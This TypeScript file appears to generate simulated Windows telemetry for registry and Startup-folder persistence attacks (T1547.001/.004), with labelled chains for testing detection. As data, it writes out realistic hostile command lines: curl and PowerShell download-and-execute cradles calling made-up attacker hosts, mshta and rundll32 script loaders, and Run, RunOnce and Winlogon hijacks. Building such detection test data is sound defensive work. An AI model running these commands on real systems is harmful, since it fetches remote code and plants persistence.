// The attack stories, each written as the whole chain a real host logs: the writer's own process
// start (with its parent and command line), the payload landing on disk, the autostart write, and
// (through register()) the persistence firing at the next logon. Paths, values and writers follow
// published intrusion reports and Atomic Red Team tests for T1547.001 / T1547.004.

import { PS_EXE, SYS32 } from '../catalog/images';
import type { Label, Proc, StoryRole, UserAccount } from '../model';
import type { AttackStory, StoryContext } from './story';
import { REMOTE_AND_SCRIPT_STORIES } from './remote-attacks';
import type { Severity } from '../../model/finding';

const CV = 'Software\\Microsoft\\Windows\\CurrentVersion';
const HKLM_RUN = `HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run`;
const WINLOGON = 'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon';
const hkcu = (u: UserAccount, sub: string) => `HKU\\${u.sid}\\${sub}`;
const appdata = (u: UserAccount) => `${u.profile}\\AppData\\Roaming`;
const localAppdata = (u: UserAccount) => `${u.profile}\\AppData\\Local`;
const startupDir = (u: UserAccount) => `${appdata(u)}\\Microsoft\\Windows\\Start Menu\\Programs\\Startup`;

/** PowerShell's -EncodedCommand: base64 of the script's UTF-16LE bytes. */
export function encodePowerShell(script: string): string {
  let bin = '';
  for (let i = 0; i < script.length; i++) {
    const c = script.charCodeAt(i);
    bin += String.fromCharCode(c & 0xff, c >>> 8);
  }
  return btoa(bin);
}

/** Only the persistence records carry a minimum severity; the rest of the chain is context a finding links. */
function labeller(story: AttackStory, minSeverity: Severity) {
  return (role: StoryRole, extra: string[] = []): Label => ({
    story: story.id, title: story.title, role, malicious: true,
    techniques: role === 'persistence' || role === 'execution' || role === 'cleanup' ? [...story.techniques, ...extra] : extra,
    minSeverity: role === 'persistence' ? minSeverity : undefined,
  });
}

function story(id: string, title: string, techniques: string[], minSeverity: Severity,
  body: (ctx: StoryContext, L: ReturnType<typeof labeller>, s: AttackStory) => void): AttackStory {
  const s: AttackStory = { id, title, techniques, run: (ctx) => body(ctx, L, s) };
  const L = labeller(s, minSeverity);
  return s;
}

/** An elevated PowerShell an administrator (or an attacker with admin rights) opened. */
function elevatedShell(ctx: StoryContext): Proc {
  const { chain, explorer } = ctx;
  return chain.spawn(explorer, PS_EXE, `"${PS_EXE}" `, undefined, { integrity: 'High' });
}

export const ATTACK_STORIES: readonly AttackStory[] = [
  story('appdata-reg-add', 'Macro drops a payload in %APPDATA% and cmd.exe runs reg.exe add HKCU\\...\\Run', ['T1547.001'], 'high', (ctx, L) => {
    const { chain, user, explorer } = ctx;
    const doc = `${user.profile}\\Downloads\\Invoice_4471.docm`;
    const payload = `${appdata(user)}\\Microsoft\\Windows\\msupdate.exe`;
    const word = chain.spawn(explorer, 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
      `"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "${doc}" /o ""`);
    chain.wait(8000, 40000);
    const cmd = chain.spawn(word, `${SYS32}\\cmd.exe`,
      `cmd.exe /c "curl -s -o %APPDATA%\\Microsoft\\Windows\\msupdate.exe https://cdn-files.update-check.net/a/msupdate.exe && reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v MSUpdate /t REG_SZ /d "%APPDATA%\\Microsoft\\Windows\\msupdate.exe" /f"`,
      L('writer-process', ['T1059.003']));
    chain.wait(30, 120);
    const curl = chain.spawn(cmd, `${SYS32}\\curl.exe`, `curl  -s -o ${payload} https://cdn-files.update-check.net/a/msupdate.exe`, L('delivery', ['T1105']));
    chain.wait(400, 2500);
    chain.file(curl, payload, L('payload-file', ['T1105']));
    chain.wait(50, 200);
    const reg = chain.spawn(cmd, `${SYS32}\\reg.exe`,
      `reg  add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v MSUpdate /t REG_SZ /d "${payload}" /f`,
      L('writer-process', ['T1112']));
    chain.wait(5, 40);
    chain.reg(reg, { action: 'set-value', key: hkcu(user, `${CV}\\Run`), valueName: 'MSUpdate', valueType: 'REG_SZ', data: payload }, L('persistence'));
    ctx.register({ id: 'appdata-reg-add', user, launcher: 'explorer', image: payload, commandLine: `"${payload}"`, label: L('execution') });
  }),

  story('encoded-powershell-run', 'PowerShell writes a Run value holding powershell -EncodedCommand', ['T1547.001', 'T1059.001', 'T1027'], 'critical', (ctx, L) => {
    const { chain, user, explorer } = ctx;
    const script = "$c=New-Object Net.WebClient;$c.Headers.Add('User-Agent','Mozilla/5.0');IEX $c.DownloadString('https://185.199.110.42/s/a.ps1')";
    const value = `powershell.exe -NoP -NonI -W Hidden -EncodedCommand ${encodePowerShell(script)}`;
    const js = `${user.profile}\\Downloads\\Scan_0412.js`;
    const wscript = chain.spawn(explorer, `${SYS32}\\wscript.exe`, `"C:\\Windows\\System32\\WScript.exe" "${js}"`, L('writer-process', ['T1059.007']));
    chain.wait(300, 1500);
    const ps = chain.spawn(wscript, PS_EXE,
      `powershell.exe -NoP -W Hidden -c "Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name 'WinNetSvc' -Value '${value}'"`,
      L('writer-process', ['T1059.001']));
    chain.wait(600, 2000);
    chain.reg(ps, { action: 'set-value', key: hkcu(user, `${CV}\\Run`), valueName: 'WinNetSvc', valueType: 'REG_SZ', data: value }, L('persistence'));
    ctx.register({ id: 'encoded-powershell-run', user, launcher: 'explorer', image: PS_EXE, commandLine: value, label: L('execution') });
  }),

  story('mshta-runonce', 'An HTA writes a RunOnce value that runs mshta.exe javascript: at next logon', ['T1547.001', 'T1218.005'], 'high', (ctx, L) => {
    const { chain, user, explorer } = ctx;
    const value = 'mshta.exe javascript:a=GetObject("script:https://paste.cdn-static.org/raw/x7Kq2");close()';
    const mshta = chain.spawn(explorer, `${SYS32}\\mshta.exe`, `"C:\\Windows\\System32\\mshta.exe" "${user.profile}\\Downloads\\Reader_Update.hta" {1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}{1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}`,
      L('writer-process', ['T1218.005']));
    chain.wait(900, 3000);
    const key = hkcu(user, `${CV}\\RunOnce`);
    chain.reg(mshta, { action: 'set-value', key, valueName: 'AdobeUpdater', valueType: 'REG_SZ', data: value }, L('persistence'));
    ctx.register({ id: 'mshta-runonce', user, launcher: 'explorer', image: `${SYS32}\\mshta.exe`, commandLine: value, runOnce: { key, valueName: 'AdobeUpdater', data: value }, label: L('execution') });
  }),

  story('rundll32-runonce', 'Excel macro adds a RunOnce value running rundll32.exe javascript:...RunHTMLApplication', ['T1547.001', 'T1218.011'], 'high', (ctx, L) => {
    const { chain, user, explorer } = ctx;
    const value = 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:https://static.msft-cdn.info/r.sct")';
    const excel = chain.spawn(explorer, 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE',
      `"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE" "${user.profile}\\Downloads\\Q1_bonus.xlsm"`);
    chain.wait(5000, 20000);
    const cmd = chain.spawn(excel, `${SYS32}\\cmd.exe`, `cmd.exe /c reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce /v Sync /d "${value.replace(/"/g, '\\"')}" /f`,
      L('writer-process', ['T1059.003']));
    chain.wait(20, 90);
    const reg = chain.spawn(cmd, `${SYS32}\\reg.exe`, `reg  add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce /v Sync /d "${value.replace(/"/g, '\\"')}" /f`,
      L('writer-process', ['T1112']));
    chain.wait(5, 40);
    const key = hkcu(user, `${CV}\\RunOnce`);
    chain.reg(reg, { action: 'set-value', key, valueName: 'Sync', valueType: 'REG_SZ', data: value }, L('persistence'));
    ctx.register({ id: 'rundll32-runonce', user, launcher: 'explorer', image: `${SYS32}\\rundll32.exe`, commandLine: value, runOnce: { key, valueName: 'Sync', data: value }, label: L('execution') });
  }),

  story('winlogon-userinit', 'Winlogon Userinit gets a second program appended (runs at every logon)', ['T1547.004'], 'critical', (ctx, L) => {
    const { chain } = ctx;
    const payload = 'C:\\ProgramData\\Intel\\igfxtray.exe';
    const ps = elevatedShell(ctx);
    chain.wait(20000, 90000);
    chain.file(ps, payload, L('payload-file', ['T1105']));
    chain.wait(4000, 20000);
    const data = `C:\\Windows\\system32\\userinit.exe,${payload},`;
    const reg = chain.spawn(ps, `${SYS32}\\reg.exe`, `"C:\\Windows\\system32\\reg.exe" add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" /v Userinit /t REG_SZ /d "${data}" /f`,
      L('writer-process', ['T1112']));
    chain.wait(5, 40);
    chain.reg(reg, { action: 'set-value', key: WINLOGON, valueName: 'Userinit', valueType: 'REG_SZ', data, previous: 'C:\\Windows\\system32\\userinit.exe,' }, L('persistence'));
    ctx.register({ id: 'winlogon-userinit', launcher: 'winlogon', image: payload, commandLine: payload, label: L('execution') });
  }),

  story('winlogon-shell', 'Winlogon Shell replaced: a payload starts instead of explorer.exe and then starts it', ['T1547.004'], 'critical', (ctx, L) => {
    const { chain } = ctx;
    const payload = 'C:\\ProgramData\\WinShell\\shellsvc.exe';
    const ps = elevatedShell(ctx);
    chain.wait(15000, 60000);
    chain.file(ps, payload, L('payload-file', ['T1105']));
    chain.wait(3000, 9000);
    const cmd = chain.spawn(ps, `${SYS32}\\cmd.exe`, `"C:\\Windows\\system32\\cmd.exe" /c reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" /v Shell /d "${payload}" /f`,
      L('writer-process', ['T1059.003']));
    chain.wait(20, 80);
    const reg = chain.spawn(cmd, `${SYS32}\\reg.exe`, `reg  add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" /v Shell /d "${payload}" /f`,
      L('writer-process', ['T1112']));
    chain.wait(5, 40);
    chain.reg(reg, { action: 'set-value', key: WINLOGON, valueName: 'Shell', valueType: 'REG_SZ', data: payload, previous: 'explorer.exe' }, L('persistence'));
    ctx.register({ id: 'winlogon-shell', launcher: 'shell', image: payload, commandLine: payload, label: L('execution') });
  }),

  story('shell-folders-startup', 'User Shell Folders\\Startup redirected to a folder the attacker controls', ['T1547.001'], 'high', (ctx, L) => {
    const { chain, user, explorer } = ctx;
    const dir = 'C:\\Users\\Public\\Libraries\\Startup';
    const payload = `${dir}\\svcupdate.exe`;
    const ps = chain.spawn(explorer, PS_EXE, `powershell.exe -ExecutionPolicy Bypass -File "${user.profile}\\Downloads\\setup-helper.ps1"`, L('writer-process', ['T1059.001']));
    chain.wait(2000, 6000);
    chain.file(ps, payload, L('payload-file', ['T1105']));
    chain.wait(500, 3000);
    chain.reg(ps, {
      action: 'set-value', key: hkcu(user, `${CV}\\Explorer\\User Shell Folders`), valueName: 'Startup', valueType: 'REG_EXPAND_SZ', data: dir,
      previous: '%USERPROFILE%\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup',
    }, L('persistence'));
    ctx.register({ id: 'shell-folders-startup', user, launcher: 'explorer', image: payload, commandLine: `"${payload}"`, label: L('execution') });
  }),

  story('startup-vbs', 'A mailed script drops a .vbs into the user\'s Startup folder', ['T1547.001', 'T1059.005'], 'high', (ctx, L) => {
    const { chain, user, explorer } = ctx;
    const outlook = chain.spawn(explorer, 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" ');
    chain.wait(60000, 600000);
    const att = `${localAppdata(user)}\\Microsoft\\Windows\\INetCache\\Content.Outlook\\7ZQ4M1XK\\Payment_details.vbs`;
    const ws = chain.spawn(outlook, `${SYS32}\\wscript.exe`, `"C:\\Windows\\System32\\WScript.exe" "${att}"`, L('writer-process', ['T1059.005']));
    chain.wait(200, 900);
    const vbs = `${startupDir(user)}\\OneDriveSync.vbs`;
    chain.file(ws, vbs, L('persistence'));
    ctx.register({ id: 'startup-vbs', user, launcher: 'explorer', image: `${SYS32}\\wscript.exe`, commandLine: `"C:\\Windows\\System32\\WScript.exe" "${vbs}"`, label: L('execution') });
  }),

  story('startup-lnk', 'PowerShell creates a shortcut in the Startup folder pointing at a payload in Temp', ['T1547.001', 'T1547.009'], 'high', (ctx, L) => {
    const { chain, user, explorer } = ctx;
    const payload = `${localAppdata(user)}\\Temp\\adobeupd.exe`;
    const lnk = `${startupDir(user)}\\Adobe Updater.lnk`;
    const ps = chain.spawn(explorer, PS_EXE,
      `powershell.exe -NoP -c "$s=(New-Object -COM WScript.Shell).CreateShortcut('${lnk}');$s.TargetPath='${payload}';$s.Save()"`,
      L('writer-process', ['T1059.001']));
    chain.wait(100, 400);
    chain.file(ps, payload, L('payload-file', ['T1105']));
    chain.wait(300, 1200);
    chain.file(ps, lnk, L('persistence'));
    ctx.register({ id: 'startup-lnk', user, launcher: 'explorer', image: payload, commandLine: `"${payload}" `, label: L('execution') });
  }),

  story('onedrive-masquerade', 'HKLM Run value named OneDriveUpdate points into C:\\ProgramData', ['T1547.001', 'T1036.005'], 'high', (ctx, L) => {
    const { chain } = ctx;
    const payload = 'C:\\ProgramData\\OneDriveUpdate\\OneDriveUpdater.exe';
    const ps = elevatedShell(ctx);
    chain.wait(10000, 50000);
    chain.file(ps, payload, L('payload-file', ['T1105']));
    chain.wait(2000, 8000);
    const data = `"${payload}" /silent`;
    const reg = chain.spawn(ps, `${SYS32}\\reg.exe`, `"C:\\Windows\\system32\\reg.exe" add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run /v OneDriveUpdate /t REG_SZ /d "\\"${payload}\\" /silent" /f`,
      L('writer-process', ['T1112']));
    chain.wait(5, 40);
    chain.reg(reg, { action: 'set-value', key: HKLM_RUN, valueName: 'OneDriveUpdate', valueType: 'REG_SZ', data }, L('persistence'));
    ctx.register({ id: 'onedrive-masquerade', launcher: 'explorer', image: payload, commandLine: data, label: L('execution') });
  }),

  story('wow6432-run', 'A 32-bit installer writes a WOW6432Node Run value (registry redirection)', ['T1547.001'], 'high', (ctx, L) => {
    const { chain, user, explorer } = ctx;
    const dropper = `${user.profile}\\Downloads\\RealtekAudioDriver_x86.exe`;
    const payload = 'C:\\ProgramData\\RtkAudio\\RtkAudUService.exe';
    const setup = chain.spawn(explorer, dropper, `"${dropper}" `, L('writer-process', ['T1204.002']), { integrity: 'High' });
    chain.wait(1500, 5000);
    chain.file(setup, payload, L('payload-file', ['T1105']));
    chain.wait(200, 800);
    chain.reg(setup, { action: 'set-value', key: 'HKLM\\SOFTWARE\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\Run', valueName: 'RtkAudUService', valueType: 'REG_SZ', data: `"${payload}" -background` }, L('persistence'));
    ctx.register({ id: 'wow6432-run', launcher: 'explorer', image: payload, commandLine: `"${payload}" -background`, label: L('execution') });
  }),

  story('policies-explorer-run', 'Policies\\Explorer\\Run created in regedit (new key renamed to Run) and a value set', ['T1547.001'], 'high', (ctx, L) => {
    const { chain, user, explorer } = ctx;
    const payload = `${appdata(user)}\\SysHelper\\syshelper.exe`;
    chain.file(explorer, payload, L('payload-file', ['T1105']));
    chain.wait(20000, 90000);
    const regedit = chain.spawn(explorer, 'C:\\Windows\\regedit.exe', '"C:\\Windows\\regedit.exe" ', L('writer-process', ['T1112']));
    chain.wait(15000, 60000);
    const parent = hkcu(user, `${CV}\\Policies\\Explorer`);
    // the bare key creation is context: the rename into Run and the value write are the persistence
    chain.reg(regedit, { action: 'create-key', key: `${parent}\\New Key #1` }, L('chain-context', ['T1112']));
    chain.wait(3000, 12000);
    chain.reg(regedit, { action: 'rename-key', key: `${parent}\\New Key #1`, newKey: `${parent}\\Run` }, L('persistence', ['T1112']));
    chain.wait(8000, 30000);
    chain.reg(regedit, { action: 'set-value', key: `${parent}\\Run`, valueName: 'SysHelper', valueType: 'REG_SZ', data: payload }, L('persistence'));
    ctx.register({ id: 'policies-explorer-run', user, launcher: 'explorer', image: payload, commandLine: `"${payload}"`, label: L('execution') });
  }),

  story('runonce-self-delete', 'A loader in Temp registers itself in RunOnce; Windows deletes the value when it fires', ['T1547.001'], 'high', (ctx, L) => {
    const { chain, user, explorer } = ctx;
    const payload = `${localAppdata(user)}\\Temp\\tmp4F2A.exe`;
    const browser = chain.spawn(explorer, 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" ');
    chain.wait(30000, 200000);
    chain.file(browser, payload, L('payload-file', ['T1105']));
    chain.wait(5000, 30000);
    const loader = chain.spawn(explorer, payload, `"${payload}" `, L('writer-process', ['T1204.002']));
    chain.wait(500, 2000);
    const cmd = chain.spawn(loader, `${SYS32}\\cmd.exe`, `cmd.exe /c reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce /v OneShot /d "${payload}" /f`,
      L('writer-process', ['T1059.003']));
    chain.wait(20, 80);
    const reg = chain.spawn(cmd, `${SYS32}\\reg.exe`, `reg  add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce /v OneShot /d "${payload}" /f`,
      L('writer-process', ['T1112']));
    chain.wait(5, 40);
    const key = hkcu(user, `${CV}\\RunOnce`);
    chain.reg(reg, { action: 'set-value', key, valueName: 'OneShot', valueType: 'REG_SZ', data: payload }, L('persistence'));
    ctx.register({ id: 'runonce-self-delete', user, launcher: 'explorer', image: payload, commandLine: `"${payload}"`, runOnce: { key, valueName: 'OneShot', data: payload }, label: L('execution') });
  }),
];

export function findStory(id: string): AttackStory | undefined {
  return ATTACK_STORIES.find((s) => s.id === id) ?? REMOTE_AND_SCRIPT_STORIES.find((s) => s.id === id);
}
